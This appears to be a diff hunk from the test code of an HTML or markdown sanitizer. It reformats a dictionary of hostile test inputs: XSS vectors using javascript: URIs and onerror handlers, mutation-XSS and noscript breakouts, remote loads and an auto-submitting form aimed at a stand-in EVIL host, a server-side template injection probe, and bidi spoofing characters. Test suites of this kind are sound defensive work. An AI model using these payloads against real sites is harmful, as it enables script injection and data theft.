@@ -47,17 +47,20 @@ PAYLOADS = {
     "frame": f'<iframe srcdoc="<script>parent.{MARK}=1</script>" src="{EVIL}/f"></iframe>',
     "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
     "remote image": f'<img src="{EVIL}/i.png" srcset="{EVIL}/s.png 2x">',
-    "remote style": f'<link rel=stylesheet href="{EVIL}/a.css"><style>@import "{EVIL}/b.css";</style>',
+    "remote style": f'<link rel=stylesheet href="{EVIL}/a.css">'
+    f'<style>@import "{EVIL}/b.css";</style>',
     "style background": f'<p style="background:url({EVIL}/c.png)">x</p>',
     "media": f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay></video><audio src="{EVIL}/a">',
     "base": f'<base href="{EVIL}/"><a href="x">x</a>',
-    "form": f'<form action="{EVIL}/f"><input name=q value=1></form><script>document.forms[0].submit()</script>',
+    "form": f'<form action="{EVIL}/f"><input name=q value=1></form>'
+    "<script>document.forms[0].submit()</script>",
     "anchor": f'<a href="javascript:{ACT}">x</a><a href=" JaVaScRiPt:{ACT}">y</a>',
     "markdown link": f"[x](javascript:{ACT}) [y](<JAVASCRIPT:{ACT}>) <javascript:{ACT}>",
     "markdown image": f'![x]({EVIL}/m.png) [![y]({EVIL}/n.png)]({EVIL}/)',
     "markdown data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "markdown reference": f"[x][r]\n\n[r]: javascript:{ACT}",
-    "mutation": f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">',
+    "mutation": "<math><mtext></table><mglyph><style><!--</style>"
+    f'<img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">',
     "noscript": f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>',
     "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
     "bidi": "pay \u202e\u2066gnidnats\u2069 \u200f\u061cend",
